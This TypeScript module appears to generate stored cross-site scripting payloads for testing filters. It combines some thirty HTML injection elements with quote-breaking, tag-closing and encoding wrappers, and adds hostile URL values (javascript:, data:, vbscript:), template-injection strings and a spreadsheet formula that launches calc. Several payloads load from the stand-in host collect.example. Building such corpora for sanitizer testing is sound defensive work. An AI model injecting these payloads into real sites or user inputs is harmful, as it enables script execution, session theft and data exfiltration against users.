// Stored cross-site scripting, made from parts: how code is started, in which markup, and how a filter might be deceived.
// Each calls stemmaRan, or loads from an address outside, if any browser takes it for more than text.
const kCode = "stemmaRan(1)";
const kOutside = "https://collect.example/";

const kElements = [
  `<script>${kCode}</script>`, `<img src=x onerror=${kCode}>`, `<svg onload=${kCode}>`, `<svg><script>${kCode}</script></svg>`,
  `<iframe srcdoc="<script>parent.${kCode}</script>">`, `<iframe src="javascript:parent.${kCode}">`, `<body onload=${kCode}>`,
  `<details open ontoggle=${kCode}>`, `<input autofocus onfocus=${kCode}>`, `<video><source onerror=${kCode}></video>`,
  `<audio src=x onerror=${kCode}>`, `<math><mtext><img src=x onerror=${kCode}></mtext></math>`, `<object data="javascript:${kCode}">`,
  `<embed src="javascript:${kCode}">`, `<a href="javascript:${kCode}">x</a>`, `<form action="javascript:${kCode}"><button>x</button></form>`,
  `<base href="${kOutside}">`, `<meta http-equiv=refresh content="0;url=${kOutside}">`, `<link rel=stylesheet href="${kOutside}x.css">`,
  `<style>@import "${kOutside}x.css"</style>`, `<style>*{background:url(${kOutside}y)}</style>`, `<img src="${kOutside}p.png">`,
  `<div style="background:url(${kOutside}z)">x</div>`, `<marquee onstart=${kCode}>x</marquee>`, `<svg><animate onbegin=${kCode} attributeName=x dur=1s>`,
  `<template><script>${kCode}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${kCode}>">`,
  `<svg><foreignObject><body onload=${kCode}></foreignObject></svg>`, `<xmp><img src=x onerror=${kCode}></xmp>`, `<select><option><img src=x onerror=${kCode}>`,
];

const kWraps: ((inner: string) => string)[] = [
  (s) => s,
  (s) => `"><${s.slice(1)}`,
  (s) => `'>${s}`,
  (s) => `</title></textarea></style></script>${s}`,
  (s) => `--><!---->${s}`,
  (s) => `]]>${s}`,
  (s) => `\u0000${s}\u0000`,
  (s) => s.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (s) => s.replace(/</g, "\\u003c"),
  (s) => `{@html '${s}'}{{constructor.constructor('${kCode}')()}}`,
];

const kAddresses = [
  `javascript:${kCode}`, `JaVaScRiPt:${kCode}`, `java\nscript:${kCode}`, `\u0001javascript:${kCode}`, ` javascript:${kCode}`, `javascript&colon;${kCode}`,
  `data:text/html,<script>${kCode}</script>`, `data:text/html;base64,PHNjcmlwdD5zdGVtbWFSYW4oMSk8L3NjcmlwdD4=`, `vbscript:${kCode}`, `blob:${kOutside}x`,
  `https://a.example/"onmouseover="${kCode}`, `https://a.example/'><script>${kCode}</script>`, `//collect.example/x`, `filesystem:${kOutside}x`,
  `__proto__`, `constructor`, `\${${kCode}}`, `url(${kOutside}q)`, `expression(${kCode})`, `=cmd|'/C calc'!A0`,
];

export function payloads(): string[] {
  return [...kElements.flatMap((element) => kWraps.map((wrap) => wrap(element))), ...kAddresses];
}
